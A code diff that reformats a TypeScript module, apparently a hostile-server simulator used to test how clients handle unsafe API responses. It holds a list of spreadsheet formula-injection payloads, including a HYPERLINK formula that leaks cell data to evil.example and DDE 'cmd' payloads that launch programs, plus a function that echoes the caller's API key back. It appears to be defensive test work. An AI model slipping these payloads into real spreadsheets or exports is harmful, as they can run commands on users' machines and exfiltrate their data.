@@ -26,7 +26,13 @@ export function presentedKey(headers: IncomingHttpHeaders): string {
   return bearer ?? header(headers, 'x-api-key') ?? header(headers, 'apikey') ?? '';
 }
 
-const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open profile")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd|\' /C notepad\'!A0', '-2+3+cmd|\' /C calc\'!A0'];
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Open profile")',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+cmd|' /C notepad'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+];
 const KEEP = /(^id$|Id$|_id$|^ids$|status|state|^type$|url|Url|uri|email|domain|event|next|cursor|token|format|^created|^updated|_at$|At$|date|currency|plan)/;
 const MESSAGE = /^(message|error|detail|title|msg|description|error_description)$/i;
 
@@ -80,7 +86,17 @@ export function playHostile(reply: Reply, opts: HostileOptions, key: string): Re
       const withKey = (v: unknown) => (typeof v === 'object' && v !== null && !Array.isArray(v) ? { ...v, receivedKey: key, receivedKeyForms: forms } : v);
       if (Array.isArray(data)) echoed.data = data.map(withKey);
       else if (typeof data === 'object' && data !== null) echoed.data = withKey(data);
-      return { ...reply, headers, body: JSON.stringify({ ...echoed, api_key: key, request: { headers: { authorization: `Bearer ${key}` } }, forms, message: `${String(echoed.message ?? '')} (key received: ${key})`.trim() }) };
+      return {
+        ...reply,
+        headers,
+        body: JSON.stringify({
+          ...echoed,
+          api_key: key,
+          request: { headers: { authorization: `Bearer ${key}` } },
+          forms,
+          message: `${String(echoed.message ?? '')} (key received: ${key})`.trim(),
+        }),
+      };
     }
   }
 }
